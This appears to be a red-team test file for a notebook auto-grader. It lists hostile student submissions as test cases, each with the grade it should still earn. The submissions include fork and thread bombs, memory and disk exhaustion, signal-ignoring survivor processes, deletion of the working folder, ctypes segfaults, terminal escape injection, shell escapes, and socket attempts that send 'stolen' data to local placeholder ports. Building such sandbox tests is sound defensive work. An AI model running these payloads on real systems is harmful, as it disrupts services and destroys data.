"""Submissions that hang, crash, flood or fill; most answer rightly, and lose only what they break themselves."""

# ruff: noqa: E501 - attacks are written as attackers write them
from __future__ import annotations

from typing import Any

from tests.grading.redteam.assignment import RIGHT
from tests.grading.redteam.attack import Row

row = Row("harm")


def in_a_call(name: str, body: str, *first: str, **more: Any) -> None:
    """The harm is done while the checker waits for an answer to the first question: it costs that question."""
    lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
    row.right(
        name,
        *first,
        answers={"double": f"def double(x):\n{lines}\n    return 2 * x"},
        **{"marks": {"double": 0.0}, **more},
    )


# Time. These run into the limit, each costs a few seconds: no more of them than needed.
row.right("loop-in-a-cell", "while True:\n    pass", flags="longer")
in_a_call("loop-in-a-call", "while True:\n    pass", flags="longer")
in_a_call("loop-in-hidden-inputs", "while x > 100:\n    pass")
row.right("sleeps-through-the-limit", "import time\ntime.sleep(600)")
row.right(
    "swallows-interrupts",
    """\
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        while True: pass
    except BaseException: pass""",
    flags="would not stop|longer",
)
row.right(
    "blocks-signals",
    "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\ntime.sleep(600)",
)
row.right("stuck-in-c", "import re\nre.match('(a*)*b', 'a' * 40)")
row.right("stuck-in-a-long-sum", "sum(range(10 ** 12))")
row.right(
    "waits-for-input",
    "import sys\nsys.stdin.read()\ntry:\n    input()\nexcept Exception:\n    pass\nopen(0, closefd=False).read()",
)
in_a_call("hangs-in-a-lock", "import threading\nlock = threading.Lock()\nlock.acquire()\nlock.acquire()")
row.right(
    "hangs-at-exit",
    "import atexit, time\natexit.register(time.sleep, 600)\nclass Late:\n    def __del__(self): time.sleep(600)\nlate = Late()",
)
row.right(
    "many-short-sleeps",
    "import time\ntime.sleep(1.2)",
    "time.sleep(1.2)",
    "time.sleep(1.2)",
    "time.sleep(1.2)",
)
row.wrong(
    "all-hang",
    answers={
        name: text.splitlines()[0] + "\n    while True: pass" if not name == "words" else text
        for name, text in {
            "double": "def double(x):",
            "normalise": "def normalise(a):",
            "window": "def window(hu, low, high):",
            "mean-of": "def mean_of(values):",
            "dose": "def checked_dose(dose):",
            "divisors": "def divisors(n):",
        }.items()
    },
)
row.right(
    "async-forever",
    "import asyncio\nawait asyncio.sleep(600)",
    "async def f():\n    while True:\n        await asyncio.sleep(0)\nawait f()",
)

# Memory.
row.right(
    "memory-in-a-cell",
    "kept = []\nwhile True:\n    kept.append(bytearray(b'x' * (8 << 20)))",
    flags="memory|Memory|killed",
)
in_a_call("memory-in-a-call", "kept = []\nwhile True:\n    kept.append(bytearray(b'x' * (8 << 20)))")
row.right(
    "memory-at-once", "x = bytearray(1 << 33)", "import numpy as np\nnp.ones((1 << 30,))", "'x' * (1 << 40)"
)
row.right(
    "memory-by-children",
    """\
import os, time
for _ in range(4):
    if os.fork() == 0:
        kept = bytearray(b"x" * (200 << 20))
        time.sleep(10)
        os._exit(0)
time.sleep(1.5)""",
)
row.right(
    "memory-shared",
    """\
import mmap
try:
    kept = mmap.mmap(-1, 1 << 30)
    for n in range(0, 1 << 30, 4096): kept[n] = 1
except OSError as error:
    print(error)""",
)
row.right(
    "recursion",
    "def f(n):\n    return f(n + 1)\nf(0)",
    "import sys\nsys.setrecursionlimit(10 ** 8)\ndef f(n):\n    return [f(n + 1)]\nf(0)",
)
in_a_call("recursion-in-a-call", "import sys\nsys.setrecursionlimit(10 ** 8)\nreturn double(x)")

NAME = "\\x1b[2J\\x1b[31mred\\r\\n\\x07\\x9b1m[bold]graded[/bold]\\u202e" + "A" * 9
row.wrong("escapes-for-the-terminal", f"Odd = type('{NAME}', (float,), {{}})\nBad = type('{NAME}', (Exception,), {{}})\nprint('{NAME}')",
          "raise Bad('\\x1b[2J')", answers={
              "double": "def double(x):\n    return Odd(4)", "dose": f"def checked_dose(dose):\n    return [1, {{'{NAME}': Odd(3)}}]",
              "window": f"def window(**k):\n    raise Bad('{NAME}')"})  # fmt: skip
row.right(
    "zombies",
    "import os\nfor _ in range(400):\n    try:\n        if os.fork() == 0: os._exit(0)\n    except OSError: pass",
)

# Processes and threads; no child lives longer than some seconds, whatever happens.
row.right(
    "fork-bomb",
    """\
import os, time
for _ in range(60):
    try:
        if os.fork() == 0:
            time.sleep(8)
            os._exit(0)
    except OSError:
        time.sleep(0.01)
time.sleep(1)""",
    flags="process",
)
row.right(
    "fork-bomb-doubling",
    """\
import os, time
end = time.monotonic() + 4
for _ in range(6):
    try: os.fork()
    except OSError: pass
while time.monotonic() < end:
    time.sleep(0.1)
# The copies now go on with the notebook as if each were the first.
""",
    at_most=True,
)
in_a_call(
    "fork-bomb-in-a-call",
    """\
import os, time
for _ in range(60):
    try:
        if os.fork() == 0:
            time.sleep(8)
            os._exit(0)
    except OSError: pass
time.sleep(3)""",
)
row.right(
    "thread-bomb",
    """\
import threading, time
for _ in range(80):
    try: threading.Thread(target=time.sleep, args=(8,), daemon=True).start()
    except RuntimeError: pass
time.sleep(0.5)""",
)
row.right("children-with-the-notebook", "import os\npid = os.fork()", "print('both of us')", at_most=True)
row.right(
    "survivors",
    """\
import os, signal, sys, time
def survive():
    for call in (os.setsid, lambda: os.setpgid(0, 0), lambda: os.setpgrp()):
        try: call()
        except OSError: pass
    for number in (1, 2, 15):
        signal.signal(number, signal.SIG_IGN)
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for path in ("@OUTSIDE@/survivor", "survivor"):
            try: open(path, "a").write("alive")
            except OSError: pass
        time.sleep(0.2)
    os._exit(0)
for _ in range(3):  # a child, a grandchild whose parent has gone, and its child
    if os.fork() == 0:
        if os.fork() == 0:
            if os.fork() == 0:
                survive()
            survive()
        os._exit(0)""",
)
in_a_call(
    "survivors-of-a-call",
    """\
import os, time
if os.fork() == 0:
    if os.fork() == 0:
        end = time.monotonic() + 60
        while time.monotonic() < end:
            try: open("@OUTSIDE@/survivor", "a").write("alive")
            except OSError: pass
            time.sleep(0.1)
    os._exit(0)
os._exit(0)""",
)
row.right(
    "survivors-by-threads",
    """\
import threading, time, os
def late():
    end = time.monotonic() + 60
    while time.monotonic() < end:
        time.sleep(0.2)
        try: open("@OUTSIDE@/survivor", "a").write("alive")
        except OSError: pass
for _ in range(3):
    threading.Thread(target=late).start()""",
)
row.right(
    "daemon-by-the-book",
    """\
import multiprocessing, subprocess, os
for start in (lambda: subprocess.Popen(["/bin/sleep", "60"], start_new_session=True),
              lambda: os.posix_spawn("/bin/sleep", ["sleep", "60"], {}),
              lambda: os.spawnv(os.P_NOWAIT, "/bin/sleep", ["sleep", "60"]),
              lambda: multiprocessing.get_context("spawn").Process(target=print).start(),
              lambda: os.execv("/bin/sleep", ["sleep", "60"])):
    try: print(start())
    except Exception as error: print(type(error))
os.system("touch @OUTSIDE@/shell")
os.popen("touch @OUTSIDE@/shell")""",
    "!touch @OUTSIDE@/shell",
    "!!touch @OUTSIDE@/shell",
)

# Ends.
row.right("exit-in-a-cell", "import os\nos._exit(0)")
row.right("exit-in-the-last-cell", last=("import os\nos._exit(3)",))
in_a_call("exit-in-a-call", "import os\nos._exit(0)")
row.right("exit-at-exit", "import atexit, os\natexit.register(os._exit, 0)")
row.right(
    "sys-exit", "import sys\nsys.exit(1)", "exit()", "quit", "raise SystemExit", "raise KeyboardInterrupt"
)
row.right("segfault-in-a-cell", "import ctypes\nctypes.string_at(0)")
in_a_call("segfault-in-a-call", "import ctypes\nctypes.string_at(0)")
row.right("abort-in-a-cell", "import os\nos.abort()")
in_a_call("abort-in-a-call", "import os\nos.abort()")
row.right(
    "frees-what-is-not-its-own",
    "import ctypes\nctypes.pythonapi.Py_DecRef.argtypes = [ctypes.py_object]\n"
    "for _ in range(10 ** 6):\n    ctypes.pythonapi.Py_DecRef(None)\n    ctypes.pythonapi.Py_DecRef('')",
)
row.right(
    "exit-in-the-middle",
    answers={"window": RIGHT["window"] + "\nimport os\nos._exit(1)"},
    marks={"window": 0.0},
)
row.wrong(
    "every-cell-exits",
    answers={name: text + "\nimport os\nos._exit(0)" for name, text in RIGHT.items() if name != "words"},
)
row.right(
    "unwinds-everything",
    "import ctypes, threading\nctypes.pythonapi.PyThreadState_SetAsyncExc("
    "ctypes.c_ulong(threading.main_thread().ident), ctypes.py_object(SystemExit))\nfor _ in range(10 ** 6): pass",
)

# Output.
row.right("flood-of-lines", "while True:\n    print('x' * 200)", flags="longer|output")
row.right(
    "flood-in-one-line",
    "import sys\nfor _ in range(300):\n    sys.stdout.write('x' * 1_000_000)\nsys.stderr.write('e' * 50_000_000)",
)
row.right(
    "flood-of-displays",
    "from IPython.display import display, HTML\nfor n in range(3000):\n    display(HTML('<p>' + 'x' * 20_000))",
)
row.right(
    "flood-of-updates",
    "from IPython.display import display\nh = display('x', display_id=True)\nfor n in range(20_000):\n    h.update(n)",
)
row.right(
    "flood-of-clears",
    "from IPython.display import clear_output\nfor n in range(20_000):\n    print(n)\n    clear_output()",
)
row.right(
    "flood-of-figures",
    "import matplotlib.pyplot as plt, numpy as np\nfor n in range(12):\n    plt.figure(figsize=(9, 9))\n    plt.imshow(np.random.rand(300, 300))\nplt.show()",
)
row.right("flood-in-every-cell", *["print('x' * 2_000_000)"] * 80)
row.right(
    "flood-of-nothing",
    "from IPython.display import display\nfor n in range(300_000):\n    display({'text/plain': ''}, raw=True)",
)
row.right(
    "flood-to-descriptors",
    "import os\nfor fd in (1, 2):\n    for _ in range(200):\n        os.write(fd, b'x' * 1_000_000)",
)
row.right(
    "flood-in-a-call", answers={"double": "def double(x):\n    print('x' * 5_000_000)\n    return 2 * x"}
)
row.right(
    "flood-of-tracebacks",
    "raise ValueError('x' * 10_000_000)",
    "def f(n):\n    g(n)\ndef g(n):\n    f(n)\nf(1)",
    "e = None\nfor n in range(5000):\n    new = ValueError(n)\n    new.__cause__ = e\n    e = new\nraise e",
    "raise ExceptionGroup('x', [ValueError('y' * 1000)] * 5000)",
)
row.right("flood-of-warnings", "import warnings\nfor n in range(50_000):\n    warnings.warn(f'{n}')")
row.right(
    "representations",
    "class Big:\n    def __repr__(self): return 'x' * 50_000_000\n    def _repr_html_(self): return 'y' * 50_000_000\nBig()",
    "class Bad:\n    def __repr__(self): raise KeyboardInterrupt\n    def _repr_html_(self): raise SystemExit\n    _repr_mimebundle_ = _repr_png_ = _repr_html_\nBad()",
    "class Slow:\n    def __repr__(self):\n        import time\n        time.sleep(60)\nSlow()",
)
row.right(
    "binary-displays",
    "from IPython.display import display, Image\ndisplay({'image/png': '\\ud800' * 99, 'text/plain': b'x', 7: 8}, raw=True)",
    "display({'image/png': 'A' * 3_000_000}, raw=True)",
    "Image(b'\\x89PNG\\r\\n\\x1a\\n' + b'x' * 99)",
)

# Disk.
row.right(
    "disk-fill",
    "n = 0\nwhile True:\n    n += 1\n    open(f'{n}.bin', 'wb').write(b'x' * (1 << 20))",
    flags="files|disk",
)
in_a_call(
    "disk-fill-in-a-call",
    "n = 0\nwhile n < 200:\n    n += 1\n    open(f'{n}.bin', 'wb').write(b'x' * (1 << 20))",
    marks={"double": 0.0},
)
row.right("disk-many-files", "for n in range(50_000):\n    open(f'f{n}', 'w').close()")
row.right(
    "disk-deleted-but-open",
    "import os\nkept = []\nfor n in range(40):\n    f = open('gone', 'wb')\n    f.write(b'x' * (1 << 20))\n    f.flush()\n    os.unlink('gone')\n    kept.append(f)",
    at_most=True,  # what it holds is found in this cell, or in a question
)
row.right(
    "disk-deep-folders",
    "import os\ntry:\n    for _ in range(3000):\n        os.mkdir('d')\n        os.chdir('d')\nfinally:\n    print(len(os.getcwd()))",
)
row.right(
    "disk-one-sparse-file",
    "import os\nf = open('hole', 'wb')\ntry:\n    f.truncate(1 << 40)\nexcept OSError as error:\n    print(error)\nos.posix_fallocate(f.fileno(), 0, 1 << 38)",
)
row.right(
    "deletes-its-folder", "import os, shutil\nshutil.rmtree(os.getcwd(), ignore_errors=True)\nos.chdir('/')"
)
row.right(
    "locks-its-folder",
    "import os\nos.chmod('.', 0)\nfor top, folders, files in os.walk('.'):\n    for name in folders + files:\n        os.chmod(os.path.join(top, name), 0)\nos.mkdir('closed', 0)\nos.mkdir('c2')\nopen('c2/x', 'w')\nos.chmod('c2', 0)",
)
row.right(
    "files-of-odd-kinds",
    "import os\nfor make in (lambda: os.mkfifo('values.fifo'), lambda: os.mknod('dev', 0o20666, 0x101), lambda: os.symlink('/', 'root'),\n"
    "             lambda: os.link('data/values.txt', 'hard'), lambda: __import__('socket').socket(1).bind('sock')):\n    try: make()\n    except OSError as error: print(error)\n"
    "open('a' * 255, 'w')\nopen('new\\nline', 'w')\nopen(b'\\xff', 'w')",
)

# Sockets.
row.right(
    "sockets",
    """\
import socket, urllib.request, http.client, os
def tries():
    yield lambda: socket.create_connection(("127.0.0.1", @PORT@), 1)
    yield lambda: socket.create_connection(("::1", @PORT@), 1)
    yield lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=1)
    for family in (socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK, socket.AF_PACKET, 40, 38):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            yield lambda family=family, kind=kind: socket.socket(family, kind)
    yield lambda: socket.socketpair()
    yield lambda: socket.getaddrinfo("example.org", 80)
    for fd in range(3, 256):
        yield lambda fd=fd: socket.socket(fileno=fd)
made = 0
for attempt in tries():
    try:
        one = attempt()
        made += 1
        for address in ("@SOCKET@", "\\0@SOCKET@", ("127.0.0.1", @PORT@)):
            try: one.connect(address); one.send(b"stolen")
            except Exception: pass
            try: one.sendto(b"stolen", address)
            except Exception: pass
    except Exception: pass""",
)
row.right(
    "sockets-by-number",
    """\
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.syscall(41, 2, 1, 0)
address = struct.pack("!HHI8x", 0x0200, @PORT@, 0x7f000001)
print(fd, libc.syscall(42, fd, address, 16), libc.syscall(425, 8, ctypes.create_string_buffer(256)))""",
)
row.right(
    "servers",
    """\
import asyncio, http.server, multiprocessing, socketserver
for make in (lambda: http.server.HTTPServer(("127.0.0.1", 0), http.server.BaseHTTPRequestHandler),
             lambda: socketserver.UnixStreamServer("here", None), lambda: multiprocessing.Manager(),
             lambda: asyncio.new_event_loop(), lambda: __import__("IPython").embed_kernel()):
    try: print(make())
    except BaseException as error: print(type(error))""",
)
